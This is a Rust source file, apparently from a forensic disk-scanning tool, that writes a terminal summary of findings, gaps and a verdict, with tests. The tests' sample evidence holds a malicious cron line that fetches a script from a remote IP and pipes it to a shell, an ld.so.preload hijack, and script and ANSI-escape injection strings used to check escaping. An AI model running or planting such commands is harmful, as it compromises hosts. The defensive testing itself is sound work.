//! The summary on a terminal after a scan.
//!
//! Purpose: what a person needs to know before opening the bundle. Touches only the stream it is given.
//! Never asks the terminal anything: colour and width come from the caller, and nothing from the
//! evidence reaches the terminal unescaped.

use std::{
    io::{self, Write},
    path::Path,
};

use anstyle::{AnsiColor, Style};
use cleanroom_contract::{EvidencePath, Finding, GapKind, Report, Severity, printable};

use super::{
    figures::{counted, grouped, prose, size},
    verdict,
};

/// Most findings that are shown.
const FINDINGS: usize = 20;
/// Most volumes that are named for their journals.
const REPLAYED: usize = 5;
/// Narrowest width that lines are wrapped to.
const NARROWEST: usize = 40;
/// Where the text of a finding begins.
const INDENT: usize = 12;

/// Writes the summary of `report`, whose bundle lies in `bundle`, wrapped to `width` columns. Paths and
/// digests are never wrapped, so that they can be copied.
///
/// # Errors
/// What `out` says.
pub(crate) fn write_summary(
    report: &Report,
    bundle: &Path,
    colour: bool,
    width: usize,
    out: &mut impl Write,
) -> io::Result<()> {
    let mut page = Page { out, colour, width: width.max(NARROWEST) };
    page.findings(report)?;
    page.gaps(report)?;
    // Last, where the eye is when the prompt comes back.
    page.verdict(report)?;
    page.coverage(report)?;
    page.replayed(report)?;
    let bundle = printable(&bundle.to_string_lossy());
    writeln!(page.out, "Bundle    {bundle}")?;
    writeln!(page.out, "Read      {bundle}/report.html")
}

/// The worst severity that was found.
pub(crate) fn worst(report: &Report) -> Option<Severity> {
    verdict::worst(report)
}

/// The verdict in one sentence.
pub(crate) fn verdict(report: &Report) -> String {
    verdict::sentence(report)
}

/// Where the summary goes, and how.
struct Page<'a, W: Write> {
    out: &'a mut W,
    colour: bool,
    width: usize,
}

impl<W: Write> Page<'_, W> {
    /// `text` in `style` where colours are wanted.
    fn paint(&self, style: Style, text: &str) -> String {
        match self.colour {
            true => format!("{style}{text}{style:#}"),
            false => text.to_owned(),
        }
    }

    /// Writes `text` in lines of the page's width, each after `indent` blanks but the first, which is
    /// wherever `used` columns have brought it.
    fn wrapped(&mut self, text: &str, indent: usize, used: usize) -> io::Result<()> {
        let mut column = used;
        let mut first = true;
        for word in text.split(' ').filter(|word| !word.is_empty()) {
            let length = word.chars().count();
            if !first && column + 1 + length > self.width {
                write!(self.out, "\n{:indent$}", "")?;
                column = indent;
                first = true;
            }
            let blank = if first { "" } else { " " };
            write!(self.out, "{blank}{word}")?;
            column += blank.len() + length;
            first = false;
        }
        writeln!(self.out)
    }

    fn heading(&mut self, text: &str) -> io::Result<()> {
        let text = self.paint(Style::new().bold(), text);
        writeln!(self.out, "{text}")
    }

    fn verdict(&mut self, report: &Report) -> io::Result<()> {
        if let Some(why) = verdict::incomplete(report) {
            let mark = self.paint(severity_style(Severity::Critical), "INCOMPLETE");
            write!(self.out, "{mark}  ")?;
            self.wrapped(why, INDENT, INDENT)?;
        }
        let style = verdict::worst(report).map_or(Style::new().bold(), severity_style);
        let mark = self.paint(style, "Verdict");
        write!(self.out, "{mark}   ")?;
        self.wrapped(&verdict::sentence(report), 10, 10)?;
        writeln!(self.out)
    }

    fn findings(&mut self, report: &Report) -> io::Result<()> {
        let total = report.summary.findings.total();
        if total == 0 && report.worst.is_empty() {
            return Ok(());
        }
        self.heading("Findings, worst first")?;
        let mut worst: Vec<&Finding> = report.worst.iter().collect();
        worst.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
        worst.truncate(FINDINGS);
        for finding in &worst {
            self.finding(finding)?;
        }
        let rest = total.saturating_sub(u64::try_from(worst.len()).unwrap_or(u64::MAX));
        if rest > 0 {
            writeln!(self.out, "  and {} more in findings.jsonl", grouped(rest))?;
        }
        writeln!(self.out)
    }

    fn finding(&mut self, finding: &Finding) -> io::Result<()> {
        let word = finding.severity.as_str();
        let chip = self.paint(severity_style(finding.severity), word);
        write!(self.out, "  {chip}{:pad$}", "", pad = INDENT.saturating_sub(2 + word.len()))?;
        let technique = finding.technique.as_ref().map(|t| format!(" [{}]", printable(t)));
        let title = format!("{}{}", prose(&finding.title), technique.unwrap_or_default());
        self.wrapped(&title, INDENT, INDENT)?;
        let path = finding.path.as_ref().map(|path| format!(" {}", shown(path)));
        let place = format!("{}{}", printable(&finding.volume), path.unwrap_or_default());
        writeln!(self.out, "{:INDENT$}{place}", "")?;
        write!(self.out, "{:INDENT$}", "")?;
        self.wrapped(&prose(&finding.reason), INDENT, INDENT)?;
        if let Some(evidence) = &finding.evidence {
            write!(self.out, "{:INDENT$}| ", "")?;
            self.wrapped(&prose(evidence), INDENT + 2, INDENT + 2)?;
        }
        let author = finding.author.as_ref().map(|author| format!(" by {}", printable(author)));
        let source = format!("{}{}", prose(&finding.source), author.unwrap_or_default());
        let source = self.paint(Style::new().dimmed(), &source);
        writeln!(self.out, "{:INDENT$}{source}", "")
    }

    fn gaps(&mut self, report: &Report) -> io::Result<()> {
        if report.coverage.gaps.is_empty() {
            return Ok(());
        }
        self.heading("Gaps: not examined, or not in full")?;
        let count_width =
            report.coverage.gaps.values().map(|n| grouped(*n).len()).max().unwrap_or_default();
        for (kind, count) in &report.coverage.gaps {
            let count = grouped(*count);
            let lead = format!("  {count:>count_width$}  {}", verdict::gap_words(*kind));
            match example(report, *kind) {
                None => writeln!(self.out, "{lead}")?,
                Some(example) => {
                    write!(self.out, "{lead}: ")?;
                    let used = lead.chars().count() + 2;
                    self.wrapped(&example, count_width + 4, used)?;
                }
            }
        }
        writeln!(self.out)
    }

    fn coverage(&mut self, report: &Report) -> io::Result<()> {
        let coverage = &report.coverage;
        let text = format!(
            "{} of {} and {} of {} examined in full; {} recorded, {} read",
            grouped(coverage.volumes_examined),
            counted(coverage.volumes, "volume"),
            grouped(coverage.files_examined),
            counted(coverage.files, "file"),
            match coverage.entries {
                1 => "1 entry".to_owned(),
                entries => format!("{} entries", grouped(entries)),
            },
            size(report.summary.bytes),
        );
        write!(self.out, "Coverage  ")?;
        self.wrapped(&text, 10, 10)
    }

    /// What was seen is not what is stored: that must not be learned from a file of the bundle only.
    fn replayed(&mut self, report: &Report) -> io::Result<()> {
        let replayed = report.volumes.iter().filter_map(|volume| {
            let means = volume.replayed.as_ref()?.means.as_str();
            Some(format!("{} ({means})", printable(&volume.volume)))
        });
        let mut names: Vec<String> = replayed.collect();
        if names.is_empty() {
            return Ok(());
        }
        let more = names.len().saturating_sub(REPLAYED);
        names.truncate(REPLAYED);
        if more > 0 {
            names.push(format!("{} more", grouped(u64::try_from(more).unwrap_or(u64::MAX))));
        }
        let names = names.join(", ");
        write!(self.out, "Replayed  ")?;
        self.wrapped(&format!("journals of {names}; the evidence is unchanged"), 10, 10)
    }
}

/// A path as text; where it is not all of the name, that is said.
fn shown(path: &EvidencePath) -> String {
    match path.path_bytes {
        None => printable(&path.path),
        Some(_) => format!("{} (not UTF-8; exact bytes in findings.jsonl)", printable(&path.path)),
    }
}

/// One gap of a kind: where and why.
fn example(report: &Report, kind: GapKind) -> Option<String> {
    let gap = report.gaps.iter().find(|gap| gap.kind == kind)?;
    let place: Vec<String> = gap
        .volume
        .as_deref()
        .map(printable)
        .into_iter()
        .chain(gap.path.as_ref().map(|path| printable(&path.path)))
        .collect();
    let reason = prose(&gap.reason);
    Some(if place.is_empty() { reason } else { format!("{}: {reason}", place.join(" ")) })
}

/// The colour of a severity.
fn severity_style(severity: Severity) -> Style {
    let colour = match severity {
        Severity::Critical => return AnsiColor::Red.on_default().bold(),
        Severity::High => AnsiColor::Red,
        Severity::Medium => AnsiColor::Yellow,
        Severity::Low => AnsiColor::Blue,
        Severity::Info => AnsiColor::Cyan,
    };
    colour.on_default()
}

#[cfg(test)]
mod tests {
    use cleanroom_contract::VolumeRecord;

    use super::*;
    use crate::bundle::sample;

    fn summary(report: &Report, colour: bool, width: usize) -> String {
        let mut out = Vec::new();
        write_summary(report, Path::new("/bundles/1"), colour, width, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn the_summary_reads_as_people_need_it() {
        let mut report = sample::report();
        report.worst.truncate(3);
        report.worst.remove(1);
        let expected = r"Findings, worst first
  critical  A library is loaded into every process [T1574.006]
            vol-0123456789abcdef0:p1 /etc/ld.so.preload
            /etc/ld.so.preload names a library that no package of the host owns.
            The library exists and was changed 4 minutes before the alert.
            | /usr/lib/x86_64-linux-gnu/libkeyutils-1.so
            dynamic-linker
  high      A job fetches and runs a script [T1053.003]
            vol-0123456789abcdef0:p1 /etc/cron.d/0hourly
            The line downloads over plain HTTP and pipes the answer into a
            shell.
            | */5 * * * * root curl -fsSL http://203.0.113.7/i.sh | sh
              >/dev/null 2>&1 # <script>alert(1)</script>
            cron
  and 12 more in findings.jsonl

Gaps: not examined, or not in full
      1  not mountable here: vol-0123456789abcdef0:p1: LUKS header: encrypted,
         no key
  1,204  unreadable: vol-0123456789abcdef0:p1 /var/lib/mysql/ib\u{1b}[31mdata1:
         read at 1048576: I/O error
     71  time limit struck: vol-0123456789abcdef0:p1 /srv/a.zip: 60 s
      7  judged in part: vol-0123456789abcdef0:p1 /swapfile: larger than memory
         for one file: judged in blocks
      1  scan interrupted: stopped by SIGINT 62 minutes in

INCOMPLETE  The scan was interrupted before its end.
Verdict   14 findings so far, 2 of them critical; the scan is incomplete, with
          1,284 gaps, and 2 of 3 volumes not examined to the end.

Coverage  1 of 3 volumes and 348,901 of 350,112 files examined in full; 412,907
          entries recorded, 37.1 GiB read
Replayed  journals of vol-0fedcba9876543210 (device mapper snapshot); the
          evidence is unchanged
Bundle    /bundles/1
Read      /bundles/1/report.html
";
        let text = summary(&report, false, 80);
        assert_eq!(text, expected);
        assert!(text.lines().all(|line| line.chars().count() <= 80));
    }

    #[test]
    fn only_our_own_colours_reach_the_terminal() {
        let report = sample::report();
        assert!(!summary(&report, false, 80).contains('\u{1b}'));
        let coloured = summary(&report, true, 80);
        assert!(coloured.contains("\u{1b}[1m\u{1b}[31mcritical\u{1b}[0m"), "{coloured}");
        // What remains after our own styles is the evidence's, and holds no control characters.
        let mut rest = String::new();
        let mut parts = coloured.split("\u{1b}[");
        rest.push_str(parts.next().unwrap());
        for part in parts {
            let (code, text) = part.split_once('m').unwrap();
            assert!(code.len() <= 2 && code.bytes().all(|b| b.is_ascii_digit()), "{code:?}");
            rest.push_str(text);
        }
        assert_eq!(rest, summary(&report, false, 80));
    }

    #[test]
    fn at_most_twenty_findings_are_shown_worst_first() {
        let mut report = sample::report();
        let one = report.worst.remove(0);
        report.worst = (0..30)
            .map(|n| Finding {
                severity: if n == 29 { Severity::Critical } else { Severity::Low },
                title: format!("number {n}"),
                ..one.clone()
            })
            .collect();
        report.summary.findings.0 = [(Severity::Low, 1029), (Severity::Critical, 1)].into();
        let text = summary(&report, false, 100);
        assert_eq!(text.matches("number ").count(), 20);
        assert!(text.find("number 29").unwrap() < text.find("number 0 ").unwrap());
        assert!(text.contains("and 1,010 more in findings.jsonl"));
    }

    #[test]
    fn many_replayed_journals_are_counted() {
        let mut report = sample::report();
        let replayed = report.volumes.iter().find(|volume| volume.replayed.is_some()).unwrap();
        report.volumes = (1..=24)
            .map(|n| VolumeRecord { volume: format!("v{n}"), ..replayed.clone() })
            .collect();
        let text = summary(&report, false, 1000);
        assert!(text.contains("v5 (device mapper snapshot), 19 more; the evidence"), "{text}");
    }

    #[test]
    fn a_quiet_scan_is_short() {
        let mut report = sample::report();
        report.run.state = cleanroom_contract::RunState::Complete;
        report.summary.complete = true;
        report.summary.findings.0.clear();
        report.summary.gaps = 0;
        report.worst.clear();
        report.gaps.clear();
        report.volumes.clear();
        report.coverage = cleanroom_contract::Coverage {
            volumes: 1,
            volumes_examined: 1,
            entries: 1,
            files: 1,
            files_examined: 1,
            gaps: Default::default(),
        };
        report.summary.bytes = 5;
        assert_eq!(
            summary(&report, false, 0),
            "Verdict   No findings in what was\n          examined; the scan is\n          \
             complete, with no gaps.\n\nCoverage  1 of 1 volume and 1 of 1 file\n          examined in full; 1 entry\n          \
             recorded, 5 bytes read\nBundle    /bundles/1\nRead      /bundles/1/report.html\n"
        );
    }
}
